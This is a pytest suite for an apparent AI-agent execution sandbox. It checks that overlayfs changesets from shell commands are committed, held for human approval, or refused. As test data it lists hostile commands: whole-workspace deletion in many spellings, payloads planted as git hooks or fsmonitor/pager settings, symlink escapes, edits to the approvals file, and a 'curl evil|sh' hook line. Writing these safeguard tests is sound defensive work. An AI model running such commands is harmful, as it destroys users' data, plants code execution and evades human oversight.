"""Transactions: the changeset a real overlay holds, the decision on it, and what lands (or not).

Commands run on a real overlayfs view of a canary workspace (tmp_path); the upper directory is the
kernel's. The decision runs through the real chokepoint (exec_commit asks a scripted human).
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
from pathlib import Path

import aleph_exec.plugin
import pytest
from aleph_exec._changeset import ChangesetTooLarge, read_changeset
from aleph_exec._decision import DEFAULT_PROTECTED, ProtectedPaths, decide

import aleph
from aleph.testing import isolated_runtime

from .txn_helpers import canary, needs_overlay, overlay_call, overlay_run, overlay_runtime, snapshot

pytestmark = needs_overlay


def _changes(ws: Path, tmp_path: Path, command: str, cwd: str = ".") -> list[tuple[str, str, str]]:
    layer = tmp_path / f"layer{len(list(tmp_path.iterdir()))}"
    run = overlay_run(ws, layer, command, cwd)
    assert 0 == run.returncode, run.stderr
    return [(c.action, c.kind, c.path) for c in read_changeset(layer / "upper", ws).changes]


def test_changeset_lists_created_modified_and_deleted_entries(workspace: Path, tmp_path: Path) -> None:
    canary(workspace, files=6)
    command = (
        "echo new > src/new.txt && echo more >> README.md && rm docs/f2.txt && ln -s ../README.md docs/readme "
        "&& mkdir -p build/out && chmod 700 src/pkg && mv src/f1.txt src/g1.txt"
    )
    assert [
        ("modify", "file", "README.md"),
        ("create", "dir", "build"),
        ("create", "dir", "build/out"),
        ("delete", "file", "docs/f2.txt"),
        ("create", "symlink", "docs/readme"),
        ("delete", "file", "src/f1.txt"),
        ("create", "file", "src/g1.txt"),
        ("create", "file", "src/new.txt"),
        ("modify", "dir", "src/pkg"),
    ] == _changes(workspace, tmp_path, command)


def test_changeset_carries_hashes_sizes_modes_and_link_targets(workspace: Path, tmp_path: Path) -> None:
    layer = tmp_path / "layer"
    overlay_run(workspace, layer, "printf abc > a && chmod 751 a && ln -s a b")
    cs = read_changeset(layer / "upper", workspace)
    a, b = cs.changes
    assert ("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad", 3, 0o751) == (a.sha256, a.size, a.mode)
    assert ("symlink", "a") == (b.kind, b.target)


def test_an_opaque_directory_deletes_every_lower_entry_it_hides(workspace: Path, tmp_path: Path) -> None:
    canary(workspace, files=6)
    (workspace / "src" / "pkg" / "deep").mkdir()
    (workspace / "src" / "pkg" / "deep" / "x").write_text("x")
    got = _changes(workspace, tmp_path, "rm -rf src && mkdir -p src/pkg && echo kept > src/pkg/f0.txt")
    assert [
        ("delete", "file", "src/f1.txt"),
        ("delete", "file", "src/f4.txt"),
        ("delete", "dir", "src/pkg/deep"),
        ("delete", "file", "src/pkg/deep/x"),
        ("modify", "file", "src/pkg/f0.txt"),
        ("delete", "file", "src/pkg/f3.txt"),
    ] == got


def test_a_directory_replaced_by_a_file_and_back(workspace: Path, tmp_path: Path) -> None:
    (workspace / "d").mkdir()
    (workspace / "d" / "x").write_text("x")
    (workspace / "f").write_text("f")
    got = _changes(workspace, tmp_path, "rm -rf d f && echo file > d && mkdir f && echo y > f/y")
    assert [
        ("delete", "dir", "d"),
        ("create", "file", "d"),
        ("delete", "file", "d/x"),
        ("delete", "file", "f"),
        ("create", "dir", "f"),
        ("create", "file", "f/y"),
    ] == got


def test_the_digest_binds_content_not_just_paths(workspace: Path, tmp_path: Path) -> None:
    digests = []
    for content in ("one", "two", "one"):
        layer = tmp_path / f"l-{len(digests)}"
        overlay_run(workspace, layer, f"echo {content} > x")
        digests.append(read_changeset(layer / "upper", workspace).digest())
    assert digests[0] == digests[2] != digests[1]


def test_reading_a_changeset_is_bounded(workspace: Path, tmp_path: Path) -> None:
    layer = tmp_path / "layer"
    overlay_run(workspace, layer, "for i in $(seq 20); do echo $i > f$i; done; head -c 3000000 /dev/zero > big")
    with pytest.raises(ChangesetTooLarge, match="more than 10 entries"):
        read_changeset(layer / "upper", workspace, max_entries=10)
    with pytest.raises(ChangesetTooLarge, match="max_changeset_mb"):
        read_changeset(layer / "upper", workspace, max_bytes=2 * 1024 * 1024)


def test_protected_globs_cover_nested_repositories_and_git_pointer_files() -> None:
    protected = ProtectedPaths([*DEFAULT_PROTECTED, "secrets/**"], [".aleph-data"])
    hits = {
        p: protected.hit(p, non_dir=True)
        for p in (
            ".git/config",
            ".git/hooks/pre-commit",
            "vendor/lib/.git/config",
            "vendor/lib/.git",
            ".git",
            ".aleph-data/approvals/always.json",
            ".aleph-data",
            "secrets/k",
            "aleph.toml",
            "src/.git/hooks",
        )
    }
    assert all(hits.values()), hits
    fine = ("src/main.py", ".gitignore", ".git/objects/ab/cd", "aleph.toml.bak", "secretsx")
    misses = [p for p in fine if protected.hit(p, non_dir=True)]
    assert [] == misses
    assert protected.hit(".git", non_dir=False) is None  # making the directory is not yet a change to its config


# -- through the chokepoint -------------------------------------------------------------------------------

SPELLINGS_ALL = [
    "rm -rf ./*",
    "rm -rf * .[!.]*",
    "find . -mindepth 1 -delete",
    "cd src && rm -rf ../*",
    "python3 -c 'import os, shutil\nfor p in os.listdir(): shutil.rmtree(p) if os.path.isdir(p) else os.remove(p)'",
    "tar -cf /dev/null --remove-files .",
    "ls | xargs rm -rf",
]


@pytest.mark.anyio
@pytest.mark.parametrize("command", SPELLINGS_ALL)
async def test_deleting_the_whole_workspace_is_refused_and_nothing_changes(workspace: Path, command: str) -> None:
    rt, _ = overlay_runtime(workspace)
    before = {}
    async with rt:
        canary(workspace)
        before = snapshot(workspace)
        asked = aleph.ScriptedRequester([aleph.ApprovalOutcome.APPROVED])
        changes = (await overlay_call(rt, command, requester=asked))["changes"]
    assert "refused" == changes["status"]
    assert "protected path" in changes["reason"] and "nothing in the workspace was changed" in changes["reason"]
    assert [] == asked.requests  # a protected path is refused outright: no human can wave it through
    assert _user_files(before) == _user_files(snapshot(workspace))


SPELLINGS_PROJECT = [
    "rm -rf src docs",
    "find src docs -type f -delete",
    "cd docs && rm -rf ../src ../docs",
    'python3 -c \'import shutil; shutil.rmtree("src"); shutil.rmtree("docs")\'',
    "for f in $(find src docs -type f); do : > $f; done",
    "rsync -a --delete $(mktemp -d)/ src/",
]


@pytest.mark.anyio
@pytest.mark.parametrize("command", SPELLINGS_PROJECT)
async def test_mass_deletion_asks_with_the_changeset_and_a_no_leaves_it_intact(workspace: Path, command: str) -> None:
    if command.startswith("rsync") and not any(Path(d, "rsync").exists() for d in os.environ["PATH"].split(":")):
        pytest.skip("rsync is not installed")
    rt, _ = overlay_runtime(workspace)
    async with rt:
        canary(workspace)
        before = snapshot(workspace)
        human = aleph.ScriptedRequester([aleph.ApprovalOutcome.DENIED])
        changes = (await overlay_call(rt, command, requester=human))["changes"]
    assert "refused" == changes["status"], changes
    assert "nothing in the workspace was changed" in changes["reason"]
    (request,) = human.requests
    assert "exec_commit" == request.tool_name
    assert request.summary.startswith("exec_commit: about=") and command not in request.summary
    assert "files" in request.summary
    assert _user_files(before) == _user_files(snapshot(workspace))


@pytest.mark.anyio
async def test_mass_deletion_unattended_is_refused(workspace: Path) -> None:
    rt, _ = overlay_runtime(workspace)
    async with rt:
        canary(workspace, files=80)
        before = snapshot(workspace)
        changes = (await overlay_call(rt, "rm -rf src", unattended=True))["changes"]
    assert ("refused", "deletes 54 files under src/, removes 2 directories") == (changes["status"], changes["summary"])
    assert "commit_ask_files" in changes["reason"]
    assert _user_files(before) == _user_files(snapshot(workspace))


@pytest.mark.anyio
async def test_mass_deletion_approved_is_committed(workspace: Path) -> None:
    rt, _ = overlay_runtime(workspace)
    async with rt:
        canary(workspace)
        human = aleph.ScriptedRequester([aleph.ApprovalOutcome.APPROVED])
        changes = (await overlay_call(rt, "rm -rf src docs", requester=human))["changes"]
    assert ("committed", 20) == (changes["status"], changes["deleted"])
    assert not (workspace / "src").exists() and (workspace / "README.md").exists()
    assert "deletes 20 files, removes 3 directories" in human.requests[0].summary


@pytest.mark.anyio
async def test_exec_commit_policy_decides_without_asking(workspace: Path) -> None:
    for rule, status in (("allow", "committed"), ("deny", "refused")):
        rt, _ = overlay_runtime(workspace, f'[policies.tool_permissions.overrides]\nexec_commit = "{rule}"\n')
        async with rt:
            canary(workspace)
            human = aleph.ScriptedRequester([])
            changes = (await overlay_call(rt, "rm -rf src docs", requester=human))["changes"]
        assert (status, []) == (changes["status"], human.requests)


@pytest.mark.anyio
async def test_calling_exec_commit_directly_commits_nothing(workspace: Path) -> None:
    rt, _ = overlay_runtime(workspace, '[policies.tool_permissions.overrides]\nexec_commit = "allow"\n')
    async with rt:
        args = {"tool": "bash", "call_id": "x", "about": "s", "created": 0, "modified": 0, "deleted": 9}
        args["digest"] = "d"
        with pytest.raises(aleph.ExecutionFailed, match="commits nothing"):
            await rt.tool_service().execute("exec_commit", args)


def _git_canary(workspace: Path) -> None:
    canary(workspace, files=3)
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (workspace / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (workspace / "sub").mkdir()
    (workspace / "payload").write_text("#!/bin/sh\ntouch PWNED\n")
    os.chmod(workspace / "payload", 0o755)


PROTECTED_WRITES = [
    ("echo owned > ../aleph.toml", "sub"),
    ("echo '{}' > ../.aleph-data/always.json", "sub"),
    ("mkdir -p .aleph-data/approvals && echo '{}' > .aleph-data/approvals/always.json", "."),
    ("cd sub/../.git/hooks && cp ../../payload pre-commit", "."),
    ("mv payload .git/hooks/post-checkout", "."),
    ("mkdir h && cp payload h/pre-push && cp -r h/. .git/hooks/", "."),
    ("ln -s ../../payload .git/hooks/pre-commit", "."),
    ("python3 -c \"open('.git/config','a').write('[core]\\n\\tfsmonitor = ./payload\\n')\"", "."),
    ("git config -f .git/config core.pager ./payload", "."),
    ("sed -i s/false/true/ ../.git/config", "sub"),
    ("rm -f .git/config", "."),
    ("mv .git .git-old", "."),
    ("mkdir -p sub/.git && printf '[core]\\n\\tfsmonitor = ../payload\\n' > sub/.git/config", "."),
    ("printf 'gitdir: ../elsewhere\\n' > sub/.git", "."),
    ("ln -s ../.git sub/.git", "."),
    ("rm -rf .aleph-data", "."),
    ("ln -s /etc escape", "."),
    ("ln -s ../../../.. sub/up", "."),
    ("ln -s .. sub/parent && ln -s sub/parent/.. out", "."),
    ("ln -s .git/config cfg", "."),
    ("mkfifo pipe", "."),
    ("python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")'", "."),
    ("echo x > ../aleph.toml.new && mv ../aleph.toml.new ../aleph.toml", "sub"),
]


@pytest.mark.anyio
@pytest.mark.parametrize(("command", "cwd"), PROTECTED_WRITES)
async def test_writes_to_protected_paths_or_special_files_are_refused(workspace: Path, command: str, cwd: str) -> None:
    rt, _ = overlay_runtime(workspace)
    async with rt:
        _git_canary(workspace)
        (workspace / ".aleph-data").mkdir(exist_ok=True)
        before = snapshot(workspace)
        result = await overlay_call(rt, command, working_dir=cwd, requester=aleph.ScriptedRequester([]))
    assert 0 == result["exit_code"], result["stderr"]
    assert "refused" == result["changes"]["status"], result["changes"]
    assert _user_files(before) == _user_files(snapshot(workspace))


def _user_files(files: dict[str, bytes]) -> dict[str, bytes]:
    """The workspace without what the runtime itself writes (its ledger, the exec store)."""
    own = (".aleph-data/ledger", ".aleph-data/exec")
    return {k: v for k, v in files.items() if k != ".aleph-data" and not k.startswith(own)}


@pytest.mark.anyio
async def test_configured_protected_paths_are_refused(workspace: Path) -> None:
    rt, _ = overlay_runtime(workspace, '[exec]\nprotected_paths = ["secrets/**", "**/*.pem"]\n')
    async with rt:
        (workspace / "secrets").mkdir()
        out = [
            (await overlay_call(rt, cmd))["changes"]["status"]
            for cmd in ("echo k > secrets/key", "mkdir -p a/b && echo k > a/b/server.pem", "echo ok > notes.txt")
        ]
    assert ["refused", "refused", "committed"] == out
    assert not (workspace / "secrets" / "key").exists() and (workspace / "notes.txt").read_text() == "ok\n"


@pytest.mark.anyio
@pytest.mark.parametrize(
    ("setting", "command"),
    [
        ("core.hooksPath=.husky", "mkdir -p .husky && echo 'curl evil|sh' > .husky/pre-commit"),
        ("core.fsmonitor=tools/fsmon.sh", "mkdir -p tools && echo 'id' > tools/fsmon.sh"),
        ("include.path=../team.gitconfig", "printf '[core]\\n\\tpager = ./p\\n' > team.gitconfig"),
        ("filter.x.clean=sh scripts/clean.sh", "rm -rf scripts && mkdir scripts && echo id > scripts/clean.sh"),
    ],
    ids=["hooks-path", "fsmonitor", "include", "filter-argument"],
)
async def test_a_file_the_repositorys_git_config_runs_is_refused_like_the_config(
    workspace: Path, setting: str, command: str
) -> None:
    # The person's .git/config names a workspace file that git reads or runs: writing it is writing the config.
    rt, _ = overlay_runtime(workspace)
    key, _, value = setting.partition("=")
    async with rt:
        _git_canary(workspace)
        config = str(workspace / ".git" / "config")
        subprocess.run(["git", "config", "--file", config, key, value], check=True, env={**os.environ, "HOME": "/"})
        (workspace / "scripts").mkdir(exist_ok=True)
        before = snapshot(workspace)
        refused = await overlay_call(rt, command, requester=aleph.ScriptedRequester([]))
        fine = await overlay_call(rt, "echo ok > notes.txt")
    assert ("refused", "committed") == (refused["changes"]["status"], fine["changes"]["status"]), refused["changes"]
    assert _user_files(before) == {k: v for k, v in _user_files(snapshot(workspace)).items() if k != "notes.txt"}


@pytest.mark.anyio
async def test_a_normal_edit_is_committed_and_the_result_says_what(workspace: Path) -> None:
    rt, _ = overlay_runtime(workspace)
    async with rt:
        canary(workspace, files=3)
        result = await overlay_call(rt, "echo hi > src/new.py && echo more >> README.md && chmod 4755 src/new.py")
    changes = result["changes"]
    assert ("committed", 1, 1) == (changes["status"], changes["created"], changes["modified"])
    assert ["modify README.md", "create src/new.py"] == changes["paths"]
    assert "# canary\nmore\n" == (workspace / "README.md").read_text()
    mode = os.lstat(workspace / "src" / "new.py").st_mode
    assert (0o755, 0) == (stat.S_IMODE(mode), mode & stat.S_ISUID)  # set-id bits never land
    assert changes["undo"]


@pytest.mark.anyio
async def test_the_ledger_row_records_the_changeset_digest(workspace: Path) -> None:
    rt, _ = overlay_runtime(workspace)
    async with rt:
        result = await overlay_call(rt, "echo a > a.txt")
        ledger = rt.chokepoint.ledger
        assert ledger is not None
        await ledger.flush()
        rows = [r for r in ledger.rows("default") if r.target == "overlay_bash" and r.refs]
    refs = rows[-1].refs or {}
    assert refs["changeset"] == result["changes"]["digest"]
    assert ("committed", "1") == (refs["changeset_status"], refs["changeset_created"])


def test_thresholds_follow_the_configuration(workspace: Path, tmp_path: Path) -> None:
    canary(workspace, files=100)
    layer = tmp_path / "layer"
    overlay_run(workspace, layer, "rm src/pkg/f0.txt src/pkg/f3.txt src/pkg/f6.txt")
    cs = read_changeset(layer / "upper", workspace)
    protected = ProtectedPaths(DEFAULT_PROTECTED)
    assert "commit" == decide(cs, protected).action
    assert "ask" == decide(cs, protected, ask_files=2).action
    assert "ask" == decide(cs, protected, ask_fraction=0.02).action  # 3 of 101 files


@pytest.mark.parametrize("command", ["rm -rf ./*", "find . -type f -delete", "rm a b c"])
def test_deleting_every_file_of_a_small_workspace_asks(workspace: Path, tmp_path: Path, command: str) -> None:
    for name in "abc":
        (workspace / name).write_text(name)
    layer = tmp_path / "layer"
    overlay_run(workspace, layer, command)
    decision = decide(read_changeset(layer / "upper", workspace), ProtectedPaths(DEFAULT_PROTECTED))
    assert ("ask", "the command deletes every file of the workspace (3)") == (decision.action, decision.reason)
    (workspace / "d").write_text("d")
    assert "commit" == decide(read_changeset(layer / "upper", workspace), ProtectedPaths(DEFAULT_PROTECTED)).action


# -- the same classes through the real bash tool and the real sandbox (where it gives a layer) ----------------


async def _bash_runtime(workspace: Path) -> aleph.Aleph:
    rt = isolated_runtime(workspace, aleph_exec.plugin)
    await rt.__aenter__()
    tool = rt.registry.get("bash")
    reason = tool.tool.uncontained({}) if tool is not None else "no bash"  # type: ignore[attr-defined]
    if reason is not None:
        await rt.aclose()
        pytest.skip(f"no transaction here: {reason}")
    return rt


NEVER_CHANGED = (".git/config", ".git/hooks", "aleph.toml", ".aleph-data", "sub/.git", "escape", "sub/up", "out")
NEVER_CHANGED += ("cfg", "pipe", "sock")
"""What no command of PROTECTED_WRITES may change (when the sandbox's read-only binds stop a command half-way,
what it did elsewhere, e.g. a copy of .git, is an ordinary changeset)."""


@pytest.mark.anyio
@pytest.mark.parametrize(("command", "cwd"), PROTECTED_WRITES)
async def test_protected_writes_through_the_sandbox_never_land(workspace: Path, command: str, cwd: str) -> None:
    _git_canary(workspace)
    (workspace / ".aleph-data").mkdir(exist_ok=True)
    rt = await _bash_runtime(workspace)
    before = _user_files(snapshot(workspace))
    try:
        service = rt.tool_service(tier="full")
        out = json.loads((await service.execute("bash", {"command": command, "working_dir": cwd})).text)
    except aleph.PermissionDenied:
        out = None  # the hardline floor refused it before it ran
    finally:
        await rt.aclose()
    after = _user_files(snapshot(workspace))
    changed = {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
    bad = [k for k in changed if any(k == p or k.startswith(p + "/") for p in NEVER_CHANGED)]
    assert [] == bad, (changed, out)
    assert out is None or out["transaction"] is True


@pytest.mark.anyio
@pytest.mark.parametrize("command", SPELLINGS_ALL + SPELLINGS_PROJECT[:-1])
async def test_deleting_the_canary_through_the_sandbox_is_held_back(workspace: Path, command: str) -> None:
    canary(workspace)
    rt = await _bash_runtime(workspace)
    before = _user_files(snapshot(workspace))
    human = aleph.ScriptedRequester([aleph.ApprovalOutcome.DENIED])
    try:
        out = json.loads(
            (await rt.tool_service(tier="auto", requester=human).execute("bash", {"command": command})).text
        )
    except aleph.PermissionDenied:
        out = None  # refused (or asked and refused) before it ran
    finally:
        await rt.aclose()
    assert out is None or "refused" == out["changes"]["status"], out
    assert before == _user_files(snapshot(workspace))


def test_the_data_directory_is_not_counted_as_the_workspaces_files(workspace: Path, tmp_path: Path) -> None:
    from aleph_exec._config import ExecConfig
    from aleph_exec._transaction import Transactions

    for i in range(8):
        (workspace / f"p{i}.py").write_text(str(i))
    kept = workspace / ".aleph-data" / "exec" / "undo" / "old" / "files"
    kept.mkdir(parents=True)
    for i in range(100):
        (kept / f"k{i}").write_text("k")
    txn = Transactions(workspace, workspace / ".aleph-data", ExecConfig(), [workspace / ".aleph-data"])
    layer = tmp_path / "layer"
    overlay_run(workspace, layer, "rm p0.py p1.py p2.py")
    decision = txn.judge(txn.read(layer))
    assert "ask" == decision.action and "of the workspace's 8 files" in decision.reason


@pytest.mark.parametrize(
    "command", ["touch src/*.txt src/pkg/*.txt docs/*.txt", "sed -i s/nomatch/x/ $(find . -name '*.txt')"]
)
def test_files_rewritten_as_they_were_are_not_overwrites(workspace: Path, tmp_path: Path, command: str) -> None:
    canary(workspace, files=90)
    layer = tmp_path / "layer"
    overlay_run(workspace, layer, command)
    cs = read_changeset(layer / "upper", workspace)
    assert (90, 0) == (cs.counts()["touched"], cs.counts()["modified"])
    assert "touches 90 files" == cs.summary()
    assert "commit" == decide(cs, ProtectedPaths(DEFAULT_PROTECTED)).action
    overlay_run(workspace, tmp_path / "layer2", "sed -i s/canary/x/ $(find . -name '*.txt')")
    assert "ask" == decide(read_changeset(tmp_path / "layer2" / "upper", workspace), ProtectedPaths(())).action
